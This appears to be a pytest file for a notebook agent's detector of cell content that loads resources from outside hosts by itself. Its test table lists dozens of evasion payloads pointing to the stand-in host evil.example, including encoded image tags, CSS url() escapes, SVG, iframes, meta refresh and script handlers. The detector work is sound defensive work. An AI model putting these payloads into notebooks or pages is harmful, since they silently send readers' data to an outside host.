"""What a cell loads by itself from elsewhere: each way in, and what must not be taken for one."""

from __future__ import annotations

import base64

import pytest

from jupyter_agent.notebook.foreign import SCRIPT, added_loads, host_of, loads
from jupyter_agent.testing import code_cell, markdown_cell

SVG = '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/x"/></svg>'
PACKED = base64.b64encode(SVG.encode()).decode()

LOADING = {
    "inline image": "![](http://evil.example/x.png?d=1)",
    "with a title": '![a](http://evil.example/x "title")',
    "in angle brackets": "![a](<http://evil.example/x y>)",
    "on the next line": "![a](\nhttp://evil.example/x)",
    "upper case": "![a](HTTP://EVIL.EXAMPLE/x)",
    "protocol-relative": "![a](//evil.example/x)",
    "backslashes": r"![a](\\evil.example\x)",
    "backslashes after the scheme": r"![a](http:\\evil.example/x)",
    "one slash": "![a](https:/evil.example/x)",
    "no slash": "![a](https:evil.example/x)",
    "entities": "![a](&#104;ttp&colon;//evil.example/x)",
    "entities twice": "![a](&amp;#104;ttp://evil.example/x)",
    "escapes": r"![a](http\://evil.example/x)",
    "reference": "![a][ref]\n\n[ref]: http://evil.example/x",
    "collapsed reference": "![ref][]\n\n[ref]:\n  <http://evil.example/x>",
    "short reference": "![ref]\n\n> [ref]: //evil.example/x",
    "link in the text": "![a [b](local.png) c](http://evil.example/x)",
    "code in the text": "![ `[` ](http://evil.example/x)",
    "bracket in the text": r"![a \] b](http://evil.example/x)",
    "image in a link": "[![a](http://evil.example/x)](https://docs.example)",
    "img": '<img src="http://evil.example/x">',
    "img without quotes": "<img src=http://evil.example/x>",
    "img without space": "<img/src='//evil.example/x'/>",
    "img never closed": '<img src="http://evil.example/x',
    "img with odd attributes": """<img x" y=">" z=">" src=http://evil.example/x>""",
    "img with spaces": '<img src = "  http://evil.example/x">',
    "img across lines": '<img\nsrc="ht\ntp://evil.exa\tmple/x">',
    "img with entities": '<img src="&#x68;ttp:&sol;&sol;evil.example/x">',
    "img in a comment": "<!--><img src=http://evil.example/x>-->",
    "img in code": "```html\n<img src=http://evil.example/x>\n```",
    "srcset": '<img srcset="a.png 1x, //evil.example/x 2x">',
    "picture": '<picture><source srcset="http://evil.example/x"></picture>',
    "script": '<script src="http://evil.example/x.js"></script>',
    "link": '<link rel=stylesheet href="//evil.example/x.css">',
    "preload": '<link rel=preconnect href="https://evil.example">',
    "iframe": '<iframe src="https://evil.example/x"></iframe>',
    "srcdoc": '<iframe srcdoc="&lt;img src=http://evil.example/x&gt;"></iframe>',
    "data page": '<iframe src="data:text/html,%3Cimg%20src=http://evil.example/x%3E"></iframe>',
    "data SVG": f'<object data="data:image/svg+xml;base64,{PACKED}"></object>',
    "video": '<video poster="http://evil.example/x"></video>',
    "audio": '<audio src="http://evil.example/x"></audio>',
    "source": '<audio><source src="http://evil.example/x"></audio>',
    "track": '<video><track src="http://evil.example/x"></video>',
    "object": '<object data="http://evil.example/x"></object>',
    "embed": '<embed src="http://evil.example/x">',
    "input": '<input type=image src="http://evil.example/x">',
    "background": '<table background="http://evil.example/x">',
    "base": '<base href="http://evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=http://evil.example/x">',
    "style attribute": '<p style="background:url(http://evil.example/x)">',
    "style of a link": '<a href="x" style="background:url(//evil.example/x)">',
    "escaped style": r'<p style="background:u\72l(\68ttp://evil.example/x)">',
    "commented style": '<p style="background:/**/url(/**/http://evil.example/x)">',
    "style sheet": "<style>p { background: url('http://evil.example/x') }</style>",
    "import": '<style>@import "//evil.example/x.css";</style>',
    "font": "<style>@font-face { src: url(http://evil.example/x) }</style>",
    "svg image": '<svg><image xlink:href="http://evil.example/x"/></svg>',
    "svg use": '<svg><use href="http://evil.example/x#y"/></svg>',
    "svg filter": '<svg><feImage href="http://evil.example/x"/></svg>',
    "ping": '<a href="x" ping="http://evil.example/x">',
    "formula": r"$\style{background:url(http://evil.example/x)}{y}$",
    "diagram": '```mermaid\nflowchart\n a@{ img: "http://evil.example/x" }\n```',
    "user in the address": "![a](http://docs.example@evil.example/x)",
    "websocket": '<img src="wss://evil.example/x">',
    "directive": ".. image:: http://evil.example/x",
}


@pytest.mark.parametrize("source", LOADING.values(), ids=LOADING)
@pytest.mark.parametrize("cell_type", ["markdown", "raw"])
def test_what_loads_by_itself_is_found_with_its_host(source: str, cell_type: str) -> None:
    assert "evil.example" in {host_of(address) for address in loads(source, cell_type)}


SCRIPTED = {
    "script": "<script>fetch('\\x2f/evil')</script>",
    "handler": "<img src=x.png onerror=go()>",
    "handler in SVG": "<svg/onload=go()>",
}


@pytest.mark.parametrize("source", SCRIPTED.values(), ids=SCRIPTED)
def test_code_may_load_anything(source: str) -> None:
    assert SCRIPT in loads(source, "markdown")


HARMLESS = {
    "link": "See [the docs](https://docs.example/a?b=c) and ![plot](attachment:plot.png).",
    "link beside images": "![a](a.png) [b](http://docs.example) ![c](c.png)",
    "bare address": "From https://data.example/set.csv, read <https://docs.example>.",
    "reference link": "[docs][1]\n\n![a](a.png)\n\n[1]: https://docs.example",
    "anchor": '<a href="https://docs.example" target="_blank">docs</a> <b>bold</b>',
    "local image": "![](plots//a.png) <img src='figures/a.png' alt='http://x.example'>",
    "data image": "![](data:image/png;base64,iVBORw0KGgo//8=)",
    "drawing": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    "formula": r"$a // b$ and $\frac{x}{y}$",
    "comparison": "if a < b and http://docs.example is up",
    "code": "```python\nx = a // b  # see http://docs.example\n```",
    "style": '<p style="color: red">red</p>',
}


@pytest.mark.parametrize("source", HARMLESS.values(), ids=HARMLESS)
def test_what_a_reader_has_to_follow_is_not_asked_about(source: str) -> None:
    assert loads(source, "markdown") == frozenset()


def test_only_what_is_new_in_the_cell_counts() -> None:
    image = "![](http://evil.example/x?d=1)"
    assert not added_loads(markdown_cell(image), f"# Title\n\n{image}", "markdown")
    assert added_loads(markdown_cell(image), image.replace("d=1", "d=2"), "markdown")
    assert added_loads(markdown_cell("text"), image, "markdown")
    # In code it is a text like any other, until the cell is turned into Markdown.
    assert not added_loads(None, image, "code")
    assert added_loads(code_cell(image), image, "markdown")


def test_long_texts_are_looked_through_in_time() -> None:
    for piece in (
        "![",
        "<a ",
        "](",
        "<style",
        "url(",
        "\\",
        "&#104;",
        '<img x="',
        "http:",
        "[x]: ",
        "/*",
        "a",
        "//",
    ):
        loads(piece * 10_000, "markdown")
